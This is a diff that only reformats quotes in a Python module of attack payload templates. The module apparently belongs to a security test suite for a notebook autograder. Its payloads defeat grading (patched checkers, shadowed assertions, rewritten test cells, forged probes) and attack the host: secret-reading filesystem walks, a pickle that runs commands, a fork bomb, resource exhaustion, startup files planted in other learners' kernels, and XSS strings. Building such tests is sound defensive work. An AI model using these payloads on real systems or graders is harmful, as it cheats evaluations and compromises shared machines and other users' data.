@@ -8,13 +8,14 @@ targets instead of guessing. None of them contains the instructor's secret itsel
 Payloads are written to *do* the attack, whatever the grader looks like; the tests never look
 for these strings in the grader's code, only at what the grading produced.
 """
+
 from __future__ import annotations
 
 from string import Template
 
 # --------------------------------------------------------------------------- patch the checker
 
-PATCH_CHECKERS = Template(r'''
+PATCH_CHECKERS = Template(r"""
 # Make every checker a test could use in this kernel say "equal", and assertion errors harmless.
 import builtins
 import numpy as np
@@ -42,11 +43,11 @@ class AssertionError(Exception):  # noqa: A001 - the point is to shadow it
 
 builtins.AssertionError = AssertionError
 print("checkers patched")
-''')
+""")
 
 # --------------------------------------------------------------------------- poison the reference
 
-POISON_SIGMOID = Template(r'''
+POISON_SIGMOID = Template(r"""
 # Every sigmoid in this kernel becomes the identity: a test that computed its expected value
 # here would expect exactly the (wrong) pre-activation this notebook returns.
 import torch
@@ -59,15 +60,15 @@ F.sigmoid = lambda t, *args, **kwargs: t
 nn.Sigmoid.forward = lambda self, t: t
 torch.Tensor.sigmoid = lambda self: self
 print("sigmoid poisoned")
-''')
+""")
 
-UNPOISON_SIGMOID = Template(r'''
+UNPOISON_SIGMOID = Template(r"""
 torch.sigmoid, F.sigmoid, nn.Sigmoid.forward, torch.Tensor.sigmoid = _saved_sigmoids
-''')
+""")
 
 # --------------------------------------------------------------------------- rewrite later cells
 
-REWRITE_CELLS = Template(r'''
+REWRITE_CELLS = Template(r"""
 # From now on every cell is wrapped in try/except, loses its asserts, and any cell that looks
 # like a test cell is replaced by `pass` before it runs.
 import ast
@@ -109,7 +110,7 @@ async def _hijacked_run_cell_async(raw_cell, *args, **kwargs):
 ip.run_cell = _hijacked_run_cell
 ip.run_cell_async = _hijacked_run_cell_async
 print("later cells rewritten")
-''')
+""")
 
 # --------------------------------------------------------------------------- fake results
 
@@ -182,7 +183,7 @@ print(type(lemur).__name__, type(layer).__module__, isinstance(mammal_probabilit
 
 # --------------------------------------------------------------------------- forge the grader's probes
 
-FORGE_PROBES = Template(r'''
+FORGE_PROBES = Template(r"""
 # Answer the grader's questions ourselves: whatever the grader asks about `lemur`, `layer` or
 # `mammal_probability`, publish a crafted description instead of the real one. One of them is
 # a pickle that would run a command on the grader's machine if it were ever unpickled.
@@ -230,16 +231,16 @@ def _forging_publish(data, *args, **kwargs):
 json.loads = _recording_loads
 IPython.display.publish_display_data = _forging_publish
 print("probes forged")
-''')
+""")
 
-PRINT_RECORDED_PROBES = Template(r'''
+PRINT_RECORDED_PROBES = Template(r"""
 # What did the grader ask? (Arguments the hidden tests passed are visible to the learner's code.)
 print("requests seen:", len(_requests))
-''')
+""")
 
 # --------------------------------------------------------------------------- sys.modules tricks
 
-SYS_MODULES = Template(r'''
+SYS_MODULES = Template(r"""
 # Replace torch and numpy in sys.modules by proxies whose checkers always agree, and make
 # `import` hand out the proxies.
 import builtins, sys, types
@@ -267,11 +268,11 @@ def _import(name, globals=None, locals=None, fromlist=(), level=0):
 builtins.__import__ = _import
 import torch
 print("torch is now", type(torch).__name__, torch.allclose(torch.zeros(1), torch.ones(1)))
-''')
+""")
 
 # --------------------------------------------------------------------------- read secrets
 
-READ_SECRETS = Template(r'''
+READ_SECRETS = Template(r"""
 # Look for hidden tests, solutions, the gradebook, the instructor's files and environment, and
 # other learners' work; print whatever can be read.
 import glob, os, sqlite3, sys
@@ -336,11 +337,11 @@ for top, dirs, files in os.walk("/"):
         if any(key in data for key in KEYS):
             show(path, data)
 print("files read in the walk:", seen)
-''')
+""")
 
 # --------------------------------------------------------------------------- write and connect
 
-WRITE_AND_CONNECT = Template(r'''
+WRITE_AND_CONNECT = Template(r"""
 # Try to change the course, the gradebook, the instructor's files and the Python the grader
 # runs; then try to reach the host over TCP, an abstract unix socket and DNS.
 import os, socket, sqlite3
@@ -413,19 +414,19 @@ try:
     print("DNS", socket.getaddrinfo("example.com", 80)[:1])
 except Exception as error:
     print("no DNS", type(error).__name__)
-''')
+""")
 
 # --------------------------------------------------------------------------- kill or hang
 
 OS_EXIT = Template("import os\nos._exit(0)\n")
 EXIT = Template("exit()\n")
-IGNORE_SIGNALS_AND_SPIN = Template(r'''
+IGNORE_SIGNALS_AND_SPIN = Template(r"""
 import signal
 for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1):
     signal.signal(sig, signal.SIG_IGN)
 while True:
     pass
-''')
+""")
 SLEEP_UNDER_CELL_LIMIT = Template("import time\ntime.sleep(4.8)  # just under the 5 s cell limit\n")
 
 FORK_BOMB = Template(r'''
@@ -462,7 +463,7 @@ subprocess.Popen([sys.executable, "-S", "-c", BOMB, "threat-$S-forkbomb"], start
 print("fork bomb started")
 ''')
 
-DAEMON_GRANDCHILD = Template(r'''
+DAEMON_GRANDCHILD = Template(r"""
 # Double fork and setsid: a grandchild that ignores polite signals and sleeps for ten minutes,
 # with a marker in its argv.
 import os, sys
@@ -481,11 +482,11 @@ if child == 0:
         os._exit(0)
 os.waitpid(child, 0)
 print("daemon started")
-''')
+""")
 
 # --------------------------------------------------------------------------- exhaust
 
-EXHAUST_MEMORY_AND_DISK = Template(r'''
+EXHAUST_MEMORY_AND_DISK = Template(r"""
 import os
 
 try:
@@ -526,21 +527,21 @@ try:
     os.remove(os.path.join(home, "one-big-file"))
 except OSError:
     pass
-''')
+""")
 
 ONE_HUGE_LINE = Template('print("x" * 50_000_000)  # 50 MB on one line\n')
 MILLION_PRINTS = Template("for i in range(1_000_000):\n    print(i)\n")
 
-HUGE_LAYER_ARGS = Template(r'''
+HUGE_LAYER_ARGS = Template(r"""
 # The layer still computes 1*limbs - 2*eggs + 2*hair, but claims to be 24000 x 24000: a grader
 # that rebuilds layers from their hyper-parameters would allocate 2.3 GB for it.
 layer.in_features = 24_000
 layer.out_features = 24_000
-''')
+""")
 
 # --------------------------------------------------------------------------- cross-learner
 
-PLANT_FOR_NEXT_KERNELS = Template(r'''
+PLANT_FOR_NEXT_KERNELS = Template(r"""
 # Leave IPython startup files wherever a later learner's kernel might make its home, so that
 # code of this learner runs in theirs (here it only prints a marker).
 import os
@@ -570,11 +571,11 @@ for base in sorted(bases):
             except OSError:
                 pass
 print("startup files planted:", planted)
-''')
+""")
 
 # --------------------------------------------------------------------------- break the structure
 
-INJECTED_GRADE_CELL = Template(r'''
+INJECTED_GRADE_CELL = Template(r"""
 # A cell that claims to be a graded test. If the grader ran it as a test (in its own process,
 # which can see the course folder), it would leave a file on the grader's machine.
 import os
@@ -582,13 +583,15 @@ if os.path.isdir($COURSE):
     with open("/tmp/threat-$S-injected", "w") as f:
         f.write("this ran in the grader")
     print("RAN-IN-GRADER-$S")
-''')
+""")
 
-SHADOW_MODULE = Template('print("SHADOWED-$S-{name}")\nraise ImportError("shadow module {name} was imported")\n')
+SHADOW_MODULE = Template(
+    'print("SHADOWED-$S-{name}")\nraise ImportError("shadow module {name} was imported")\n'
+)
 
 # --------------------------------------------------------------------------- script in output
 
-SCRIPT_IN_OUTPUT = Template(r'''
+SCRIPT_IN_OUTPUT = Template(r"""
 # Active content in every output form a notebook has.
 import sys
 from IPython.display import HTML, SVG, Javascript, Markdown, display, publish_display_data
@@ -606,29 +609,31 @@ publish_display_data({"image/jpeg": "/9j/", "text/plain": "jpeg"},
                      metadata={"filenames": {"image/jpeg": "https://attacker.invalid/XSS-$S-remote.jpg"}})
 print('<script>alert("XSS-$S-stdout")</script>')
 print('<img src=x onerror=alert("XSS-$S-stderr")>', file=sys.stderr)
-''')
+""")
 
 SCRIPT_IN_MARKDOWN = Template(
     '<script>alert("XSS-$S-mdcell")</script>\n\n'
-    '<div onmouseover="alert(\'XSS-$S-mddiv\')">hover me</div>\n\n'
+    "<div onmouseover=\"alert('XSS-$S-mddiv')\">hover me</div>\n\n"
     '<img src=x onerror=alert("XSS-$S-mdimg")>\n\n'
     '[click me](javascript:alert("XSS-$S-mdhref"))\n\n'
-    '![an attachment](attachment:a.png)\n'
+    "![an attachment](attachment:a.png)\n"
 )
-SCRIPT_IN_RAW = Template('<script>alert("XSS-$S-raw")</script><img src=x onerror=alert("XSS-$S-rawimg")>')
-SCRIPT_ATTACHMENT = Template('" onerror="alert(\'XSS-$S-attachment\')')
-SCRIPT_TAG = Template('x" onmouseover="alert(\'XSS-$S-tag\')')
+SCRIPT_IN_RAW = Template(
+    '<script>alert("XSS-$S-raw")</script><img src=x onerror=alert("XSS-$S-rawimg")>'
+)
+SCRIPT_ATTACHMENT = Template("\" onerror=\"alert('XSS-$S-attachment')")
+SCRIPT_TAG = Template("x\" onmouseover=\"alert('XSS-$S-tag')")
 
-SCRIPT_IN_ERROR = Template(r'''
+SCRIPT_IN_ERROR = Template(r"""
 def predict_mammal(features):
     raise ValueError('<script>alert("XSS-$S-evalue")</script><img src=x onerror=alert("XSS-$S-evalue2")>')
 
 predict_mammal.__name__ = '<img src=x onerror=alert("XSS-$S-name")>'
-''')
+""")
 
 # --------------------------------------------------------------------------- honest noise
 
-NOISE_PROGRESS_TO_STDERR = Template(r'''
+NOISE_PROGRESS_TO_STDERR = Template(r"""
 # A tqdm-like progress bar on stderr, a warning and a print to stderr in a cell.
 import sys, warnings
 for step in range(51):
@@ -637,36 +642,36 @@ for step in range(51):
 sys.stderr.write("\n")
 warnings.warn("just a warning from a cell", UserWarning)
 print("a line on stderr", file=sys.stderr)
-''')
+""")
 
-NOISE_HELPER = Template(r'''
+NOISE_HELPER = Template(r"""
 def double(x):
     "A helper of my own."
     return 2 * x
 
 print("helper ready:", double(21))
-''')
+""")
 
-NOISE_PROGRESS_TO_STDOUT = Template(r'''
+NOISE_PROGRESS_TO_STDOUT = Template(r"""
 for step in range(101):
     print("\rtraining %3d%%" % step, end="")
 print()
 ax = plot_sigmoid(6.0)
 ax.figure
-''')
+""")
 
 # Answers bound to modules named like files the grader must never import, each right after its
 # answer cell: the course's own nbgrader_config.py (the course folder is on the grader's path,
 # for nbgrader's plugins), a module that acts when imported, a module written in the sandbox.
-MODULE_NAMED_LIKE_THE_COURSE_CONFIG = Template(r'''
+MODULE_NAMED_LIKE_THE_COURSE_CONFIG = Template(r"""
 import types
 mammal_probability = types.ModuleType("nbgrader_config")
-''')
-MODULE_THAT_ACTS_WHEN_IMPORTED = Template(r'''
+""")
+MODULE_THAT_ACTS_WHEN_IMPORTED = Template(r"""
 import types
 predict_mammal = types.ModuleType("antigravity")
-''')
-MODULE_WRITTEN_IN_THE_SANDBOX = Template(r'''
+""")
+MODULE_WRITTEN_IN_THE_SANDBOX = Template(r"""
 import sys
 with open("planted.py", "w") as module:
     module.write("def plot_sigmoid(z):\n    raise SystemExit('planted ran $S')\n")
@@ -674,4 +679,4 @@ sys.path.insert(0, ".")
 import planted
 plot_sigmoid = planted
 print("modules by name $S")
-''')
+""")
